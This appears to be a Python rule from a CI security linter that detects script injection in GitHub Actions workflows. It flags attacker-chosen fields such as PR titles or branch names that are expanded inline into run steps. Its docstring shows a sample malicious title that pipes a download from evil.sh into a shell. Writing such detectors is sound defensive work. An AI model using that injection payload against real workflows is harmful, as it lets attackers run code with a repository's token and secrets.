"""template-injection: an attacker-controllable context expanded inline in a script."""

from __future__ import annotations

import re
from collections.abc import Iterator

from kubeward.model.workflow import Expr, Step, Workflow, expressions
from kubeward.parse.yamlnode import YNode
from kubeward.registry import Finding, Layer, Related, Severity, rule
from kubeward.rules.cicd._github import GHA_SECURITY

# Contexts whose value whoever opens an issue, PR, comment, review or commit chooses.
ATTACKER_CONTROLLED = re.compile(
    r"^(?:github\.head_ref"
    r"|github\.event\.(?:"
    r"issue\.(?:title|body)"
    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))"
    r"|(?:comment|review|review_comment|discussion|discussion_comment)\.body"
    r"|discussion\.title"
    r"|pages\.[^.\s]+\.page_name"
    r"|(?:commits\.[^.\s]+|head_commit|workflow_run\.head_commit|merge_group\.head_commit)"
    r"\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|display_title|pull_requests\.[^.\s]+\.head\.ref)"
    r"))$"
)
_CTX_RE = re.compile(r"github\.[A-Za-z0-9_.*\[\]'\"-]+")


def attacker_contexts(expr: str) -> list[str]:
    """The attacker-controllable contexts an expression reads (index syntax normalised)."""
    out = []
    for m in _CTX_RE.finditer(expr):
        ctx = re.sub(r"\[['\"]([^'\"]+)['\"]\]", r".\1", m.group(0)).rstrip(".")
        ctx = re.sub(r"\[\d+\]|\[\*\]", ".*", ctx)
        if ATTACKER_CONTROLLED.match(ctx):
            out.append(ctx)
    return out


# Action inputs that the action runs as code (script, shell command or expression).
CODE_INPUTS: dict[str, tuple[str, ...]] = {
    "actions/github-script": ("script",),
    "amadevus/pwsh-script": ("script",),
    "mikefarah/yq": ("cmd",),
    "addnab/docker-run-action": ("run",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "cardinalby/js-eval-action": ("expression",),
    # lodash templates: `<%= %>` in the expanded text runs as JavaScript
    "tibdex/backport": ("title_template", "body_template"),
}


def _shell_nodes(step: Step) -> Iterator[tuple[YNode, str]]:
    """Scalars that are executed as code: `run:`, and code inputs of actions that run them."""
    if step.run is not None and step.run.is_scalar:
        yield step.run, "run:"
    if step.uses is None or step.uses.kind != "repo" or step.with_ is None:
        return
    keys = CODE_INPUTS.get(step.uses.action, ())
    for k, v in step.with_.items():
        if k.is_scalar and str(k.value).lower() in keys and v.is_scalar:
            yield v, f"{step.uses.action} {k.value}:"


_ENV_REF = re.compile(r"\benv\.([A-Za-z_][A-Za-z0-9_-]*)")
_STRING_LIT = re.compile(r"'(?:[^']|'')*'")
_COMPARISON = re.compile(r"==|!=|<=|>=|<|>|^!")
_BOOL_CALL = re.compile(r"^(?:contains|startsWith|endsWith)\((.*)\)$", re.S)


def _is_boolean(expr: str) -> bool:
    """An expression whose value is true or false (a comparison, `!x`, `contains(...)`), which
    cannot carry text into the script whatever the context holds. `a || b` and `a && b` are
    not: they yield one of their operands (`cond && x || y` is the ternary idiom)."""
    body = _STRING_LIT.sub("''", expr).strip()
    if "&&" in body or "||" in body:
        return False
    m = _BOOL_CALL.match(body)
    if m is not None:
        depth = 0
        for ch in m.group(1):  # the call must span the whole expression
            depth += {"(": 1, ")": -1}.get(ch, 0)
            if depth < 0:
                return False
        return True
    return _COMPARISON.search(body) is not None


def _env_value(step: Step, name: str) -> YNode | None:
    """The value `env.NAME` has in a step: the step's env, else the job's, else the workflow's."""
    for env in (step.env, step.job.env, step.workflow.env):
        if env is not None and env.is_map:
            v = env.get(name)
            if v is not None:
                return v
    return None


@rule(
    id="template-injection",
    layer=Layer.BUILD,
    severity=Severity.CRITICAL,
    references=(
        GHA_SECURITY + "#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ),
)
def template_injection(wf: Workflow) -> Iterator[Finding]:
    """Attacker-controllable context expanded inline in a script.

    `${{ }}` is substituted into the script text before the shell parses it, and likewise into
    action inputs that are run as code (`actions/github-script`'s `script`, `mikefarah/yq`'s
    `cmd`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`...). An issue title,
    PR title or body, branch name, comment or commit message is chosen by whoever opens it, so a
    title such as `"; curl evil.sh | sh; #` becomes code running with the job's token and
    secrets. Passing the value through `env:` and quoting
    the variable (`"$TITLE"`) keeps it data, and is not flagged; expanding that variable again
    as `${{ env.TITLE }}` is the same injection, and is. Expressions whose value is true or
    false (`contains(github.head_ref, 'x')`, `github.event.issue.title == 'y'`) carry no text
    and are not flagged; `a || b` yields an operand and is. An expression repeated in several
    steps through a YAML alias is reported once.

    ## Why it matters
    Script injection through PR titles and branch names is the most common way public
    workflows are taken over; on `pull_request_target` and `issue_comment` it runs with a write
    token and secrets.

    ## Remediation
    Move the value into an environment variable and reference it quoted:

        - env:
            TITLE: ${{ github.event.pull_request.title }}
          run: echo "$TITLE"
    """
    seen: set[tuple[int, int]] = set()  # a YAML alias repeats one expression in many steps
    for job in wf.jobs:
        for step in job.steps:
            for node, where in _shell_nodes(step):
                for e in expressions(wf.file, node):
                    at = (e.span.start.offset, e.span.end.offset)
                    if at in seen or _is_boolean(e.text):
                        continue
                    seen.add(at)
                    into = f"{where} of {step.label} in job {job.id}"
                    yield from _expanded_contexts(e, into)
                    yield from _expanded_env(wf, step, e, into)


def _expanded_contexts(e: Expr, into: str) -> Iterator[Finding]:
    """The expression reads attacker-controllable contexts itself."""
    ctxs = list(dict.fromkeys(attacker_contexts(e.text)))
    if ctxs:
        are = "is" if len(ctxs) == 1 else "are"
        yield Finding(
            e.span,
            f"{' and '.join(ctxs)} {are} expanded into {into}; "
            "pass it through env: and quote the variable",
            properties={"context": ctxs[0], "contexts": ctxs},
        )


def _expanded_env(wf: Workflow, step: Step, e: Expr, into: str) -> Iterator[Finding]:
    """The expression reads `env.NAME` whose value holds an attacker-controllable context."""
    for name in _ENV_REF.findall(e.text):
        source = _env_value(step, name)
        if source is None:
            continue
        tainted = [c for x in expressions(wf.file, source) for c in attacker_contexts(x.text)]
        if tainted:
            yield Finding(
                e.span,
                f"env.{name} holds {tainted[0]} and is expanded into {into}; use the shell "
                f'variable "${name}" instead of ${{{{ env.{name} }}}}',
                related=(Related(source.span, f"env.{name} is set here"),),
                properties={"context": tainted[0]},
            )
